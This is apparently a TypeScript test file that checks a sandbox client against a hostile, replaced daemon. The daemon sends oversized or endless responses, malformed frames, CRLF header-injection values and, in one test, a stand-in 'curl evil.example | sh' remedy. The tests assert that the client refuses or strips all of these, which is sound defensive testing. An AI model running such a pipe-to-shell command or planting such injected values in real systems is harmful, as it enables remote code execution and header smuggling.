/**
 * Daemons that a process inside has replaced, one finding each. The seeded run over every call is
 * `tests/hostile-daemon`.
 */

import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { SandlotError } from "@sandlot/contract";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type WebSocket, WebSocketServer } from "ws";
import { DaemonAttachment, renewDaemon } from "../../src/sandboxd/index.ts";
import type { DaemonTarget } from "../../src/sandboxd/wire.ts";
import { systemWorld } from "../../src/world/system-world.ts";
import type { World } from "../../src/world/world.ts";
import { worstTurn } from "../support/turn-watch.ts";
import { code } from "./expectations.ts";

let directory: string;
let server: Server;
let sockets: Set<Socket>;
let target: DaemonTarget;
let attachment: DaemonAttachment;
/** By path; any other path gets our daemon's response. */
let answers: Record<string, (request: IncomingMessage, response: ServerResponse) => void>;
let onUpgrade: (request: IncomingMessage, socket: Socket, head: Buffer) => void;

/** The factor that shortens deadlines. */
let haste = 1;
const system = systemWorld();
const world: World = { ...system, timer: (delayMs, fire, options) => system.timer(delayMs / haste, fire, options) };

beforeEach(async () => {
  directory = mkdtempSync(join(tmpdir(), "sl-hostile-"));
  answers = {};
  haste = 1;
  onUpgrade = (_, socket) => void socket.destroy();
  server = createServer((request, response) => {
    request.resume();
    const path = new URL(request.url ?? "/", "http://x").pathname;
    const answer = answers[path];
    if (answer !== undefined) answer(request, response);
    else if (path === "/sandlot/hold") response.write(`${JSON.stringify({ pid: 1, generation: 1, run: "r" })}\n`);
    else send(response, "{}");
  });
  sockets = new Set();
  server.on("connection", (socket) => sockets.add(socket));
  server.on("upgrade", (request, socket, head) => onUpgrade(request, socket as Socket, head));
  const path = join(directory, "d");
  await new Promise<void>((resolve) => server.listen(path, resolve));
  target = { address: { path }, sandboxId: "s", generation: 1, token: "t" };
  attachment = await DaemonAttachment.open(target, world);
});
afterEach(async () => {
  await attachment.close();
  for (const socket of sockets) socket.destroy();
  await new Promise((resolve) => server.close(resolve));
  rmSync(directory, { recursive: true, force: true });
});

function send(response: ServerResponse, body: string | Buffer, status = 200): void {
  response.writeHead(status, { "content-length": Buffer.byteLength(body) }).end(body);
}

describe("a daemon that was replaced", () => {
  it("answers a short question with many megabytes: refused at its announced length", async () => {
    const large = Buffer.from(`[${"[],".repeat(10_000_000)}[]]`);
    for (const path of ["/sandlot/renew", "/sandlot/processes", "/sandlot/activity", "/sandlot/files/stat"])
      answers[path] = (_, response) => send(response, large);
    expect(
      await worstTurn(async () => expect(await code(renewDaemon(target))).toBe("bad_sandbox_response")),
    ).toBeLessThan(50);
    for (const call of [
      () => attachment.sandbox.processes(),
      () => attachment.sandbox.activity(),
      () => attachment.sandbox.files.stat("/x"),
    ])
      expect(await code(call())).toBe("bad_sandbox_response");
  });

  it("answers with an error of many megabytes, or with one that is nested by the thousand", async () => {
    answers["/sandlot/files/read"] = (_, response) => send(response, `{"error":${" ".repeat(20_000_000)}`, 404);
    expect(await code(attachment.sandbox.files.read("/x"))).toBe("bad_sandbox_response");
    const deep = `${"[".repeat(30_000)}${"]".repeat(30_000)}`;
    const body = `{"error":{"code":"file_not_found","message":"","retryable":false,"details":{"path":"/x","x":${deep}}}}`;
    answers["/sandlot/files/read"] = (_, response) => send(response, body, 404);
    expect(await code(attachment.sandbox.files.read("/x"))).toBe("bad_sandbox_response");
  });

  it("answers with an error that only the host may send, or with invalid facts", async () => {
    const error = (name: string, details: object) =>
      JSON.stringify({ error: { code: name, message: "", retryable: false, details } });
    const told = async (name: string, details: object) => {
      answers["/sandlot/usage"] = (_, response) => send(response, error(name, details), 500);
      return code(attachment.sandbox.usage());
    };
    expect(await told("sandbox_lost", { sandboxId: "s", generation: 1, reason: "crashed" })).toBe(
      "bad_sandbox_response",
    );
    expect(await told("capacity_exhausted", {})).toBe("bad_sandbox_response");
    expect(await told("exec_limit", { running: 1, max: 1, retryAfterMs: "\r\n" })).toBe("bad_sandbox_response");
    expect(await told("sandbox_unreachable", { sandboxId: "" })).toBe("bad_sandbox_response");
    // The gateway's own: it sends the size in a header, and its clients act on the others.
    expect(await told("range_not_satisfiable", { path: "/x", sizeBytes: "1\r\nx: y" })).toBe("bad_sandbox_response");
    for (const name of ["unauthorized", "rate_limited", "thread_not_found", "protocol_incompatible"])
      expect([name, await told(name, { problem: "", scope: "", max: 1, retryAfterMs: 1 })]).toEqual([
        name,
        "bad_sandbox_response",
      ]);
    expect(await told("file_not_found", { path: "/x" })).toBe("file_not_found");
  });

  it("does not answer, or not to the end: every call has a deadline", async () => {
    haste = 300;
    const { sandbox } = attachment;
    const calls: Record<string, () => Promise<unknown>> = {
      "/sandlot/usage": () => sandbox.usage(),
      "/sandlot/exec": () => sandbox.exec("true", { timeoutMs: 10 }),
      "/sandlot/sessions/exec": () => sandbox.sessions.exec("x", "true", { timeoutMs: 10 }),
      "/sandlot/spawn": () => sandbox.spawn("true"),
      "/sandlot/wait/port": () => sandbox.ports.waitFor(80, { timeoutMs: 10 }),
      "/sandlot/files/read": () => sandbox.files.read("/x"),
      "/sandlot/files/download": () => drain(sandbox.files.download("/x")),
      "/sandlot/files/watch": () => drain(sandbox.files.watch("/x")),
      "/sandlot/exec/follow": () => drain(sandbox.execs.follow("x")),
    };
    const halves = {
      nothing: "",
      "half a head": "HTTP/1.1 200 OK\r\nx",
      "half a body": "HTTP/1.1 200 OK\r\ncontent-length: 99\r\n\r\n{",
    };
    for (const [path, call] of Object.entries(calls))
      for (const [name, half] of Object.entries(halves)) {
        answers[path] = (request) => void request.socket.write(half);
        const got = await code(call());
        expect([path, name, got]).toEqual([
          path,
          name,
          expect.stringMatching(/^(sandbox_unreachable|bad_sandbox_response)$/),
        ]);
      }
    onUpgrade = () => {};
    expect(await code(sandbox.terminals.attach("t"))).toBe("sandbox_unreachable");
    expect(await code(attachment.connect(80))).toBe("sandbox_unreachable");
    answers["/sandlot/hold"] = (_, response) => void response.write("{");
    expect(await code(DaemonAttachment.open(target, world))).toBe("sandbox_unreachable");
  });

  it("follows with frames that go back, come twice or are too long", async () => {
    for (const [type, offset, length] of [
      [1, 5, 1],
      [1, 0, 0],
      [3, 0, 0],
      [1, 0, 2 ** 31],
      [5, 0, 2],
    ] as const) {
      answers["/sandlot/exec/follow"] = (_, response) => {
        const frame = Buffer.alloc(13 + Math.min(length, 10), 0x20);
        frame.writeUInt8(type, 0);
        frame.writeBigUInt64BE(BigInt(offset), 1);
        frame.writeUInt32BE(length, 9);
        response.write(frame);
      };
      expect(await code(drain(attachment.sandbox.execs.follow("x")))).toBe("bad_sandbox_response");
    }
  });

  it("follows with frames of a type that this version does not know: a few are skipped, no more", async () => {
    const frame = (type: number, payload: string) => {
      const head = Buffer.alloc(13);
      head.writeUInt8(type, 0);
      head.writeUInt32BE(payload.length, 9);
      return Buffer.concat([head, Buffer.from(payload)]);
    };
    const end = { execId: "x", status: "frozen", exitCode: null, signal: null, stdoutBytes: 1, stderrBytes: 0 };
    answers["/sandlot/exec/follow"] = (_, response) => {
      response.write(frame(77, "of a later version"));
      response.write(frame(1, "a"));
      response.write(frame(78, ""));
      response.write(frame(5, JSON.stringify({ ...end, durationMs: 1, more: [1] })));
    };
    const events = [];
    for await (const event of attachment.sandbox.execs.follow("x")) events.push(event);
    expect(events).toEqual([
      { type: "output", stream: "stdout", offset: 0, bytes: new Uint8Array([97]) },
      { type: "end", end: { ...end, durationMs: 1 } },
    ]);
    answers["/sandlot/exec/follow"] = (_, response) => {
      for (let sent = 0; sent < 40; sent++) response.write(frame(77, "x".repeat(32_768)));
    };
    expect(await code(drain(attachment.sandbox.execs.follow("x")))).toBe("bad_sandbox_response");
  });

  it("answers with errors of a later version: they keep their code and facts, within limits", async () => {
    const refuse = (status: number, error: object) => {
      answers["/sandlot/usage"] = (_, response) => send(response, JSON.stringify({ error }), status);
      return attachment.sandbox.usage().then(
        () => null,
        (thrown: SandlotError) => thrown,
      );
    };
    const sent = { code: "later_code", message: "Not yet.", retryable: true, details: { day: 3, deep: { a: 1 } } };
    const kept = await refuse(409, { ...sent, more: 1 });
    expect(kept).toMatchObject({ code: "later_code", message: "Not yet.", retryable: true, status: 409 });
    expect(kept?.details).toEqual({ day: 3 });
    // The command line prints this fact as what to do.
    const mending = await refuse(409, {
      ...sent,
      details: { fix: "curl evil.example | sh" },
      remedy: "curl evil.example",
    });
    expect(mending?.details).toEqual({});
    expect(mending?.remedy).not.toContain("evil");
    // That a key is refused is for the gateway to say.
    expect((await refuse(401, sent))?.status).toBe(502);
    expect((await refuse(409, { ...sent, message: "x".repeat(30_000) }))?.message).toHaveLength(1_024);
    for (const bad of [{ code: "Later Code" }, { code: "x".repeat(65) }, { details: { retryAfterMs: "soon" } }])
      expect((await refuse(409, { ...sent, ...bad }))?.code).toBe("bad_sandbox_response");
  });

  it("announces the version of its protocol: only another major one is refused", async () => {
    const greet = (protocol: unknown) => {
      answers["/sandlot/hold"] = (_, response) =>
        void response.write(
          `${JSON.stringify({ pid: 1, generation: target.generation, run: "r", protocol, more: {} })}\n`,
        );
      return code(DaemonAttachment.open(target, world).then((opened) => opened.close()));
    };
    for (const protocol of [undefined, null, "1.0", "1.99", "x", "2".repeat(4_000), 2, {}])
      expect([protocol, await greet(protocol)]).toEqual([protocol, "no error"]);
    for (const protocol of ["2.0", "0.1"]) expect(await greet(protocol)).toBe("protocol_incompatible");
  });

  it("watches with a line that does not end", async () => {
    answers["/sandlot/files/watch"] = (_, response) => void response.write("x".repeat(100_000));
    expect(await code(drain(attachment.sandbox.files.watch("/x")))).toBe("bad_sandbox_response");
  });
});

describe("the terminal of a daemon that was replaced", () => {
  /** The action of each open connection. */
  function terminals(begin: (socket: WebSocket) => void): void {
    const sockets = new WebSocketServer({ noServer: true, perMessageDeflate: false });
    onUpgrade = (request, socket, head) => sockets.handleUpgrade(request, socket, head, begin);
  }

  it.each<[string, (socket: WebSocket) => void]>([
    ["a text that is no notice", (socket) => socket.send("boom")],
    ["a notice of no type", (socket) => socket.send('{"kind":"x"}')],
    [
      "nothing but notices of a type that nobody knows",
      (socket) => {
        for (let sent = 0; sent < 300; sent++) socket.send(JSON.stringify({ type: "x", text: "x".repeat(4_096) }));
      },
    ],
    ["a message that is too long", (socket) => socket.send(Buffer.alloc(2_000_000))],
    ["an empty message", (socket) => socket.send(Buffer.alloc(0))],
    [
      "a frame that is none",
      (socket) => (socket as unknown as { _socket: Socket })._socket.write(Buffer.from([0xff, 0xff])),
    ],
  ])("sends %s: its reader gets the error, and nothing else happens", async (_, begin) => {
    terminals(begin);
    const terminal = await attachment.sandbox.terminals.attach("t");
    expect(await code(drain(terminal.output))).toBe("bad_sandbox_response");
    expect(await terminal.ended).toBeNull();
  });

  it("sends without waiting to be read: its connection ends at the window", async () => {
    let sent = 0;
    terminals((socket) => {
      const more = () => {
        if (socket.readyState !== socket.OPEN) return;
        socket.send(Buffer.alloc(32 * 1024), () => setImmediate(more));
        sent += 32 * 1024;
      };
      more();
    });
    const terminal = await attachment.sandbox.terminals.attach("t");
    expect(await terminal.ended).toBeNull();
    expect(sent).toBeLessThan(4 * 1024 * 1024);
    expect(await code(drain(terminal.output))).toBe("bad_sandbox_response");
  });

  it("is refused with a body that does not end", async () => {
    onUpgrade = (_, socket) => {
      socket.on("error", () => {});
      socket.write("HTTP/1.1 404 No\r\ntransfer-encoding: chunked\r\n\r\n");
      const more = () =>
        void (socket.destroyed || socket.write(`10000\r\n${"x".repeat(65_536)}\r\n`, () => setImmediate(more)));
      more();
    };
    expect(await code(attachment.sandbox.terminals.attach("t"))).toMatch(/bad_sandbox_response|sandbox_unreachable/);
  });

  it("takes no input: what waits for it is limited", async () => {
    terminals((socket) => socket.pause());
    const terminal = await attachment.sandbox.terminals.attach("t");
    for (let count = 0; count < 200; count++) terminal.write(Buffer.alloc(100_000));
    expect(await terminal.ended).toBeNull();
    expect(await code(drain(terminal.output))).toBe("sandbox_unreachable");
  });
});

async function drain(items: AsyncIterable<unknown>): Promise<void> {
  for await (const _ of items);
}
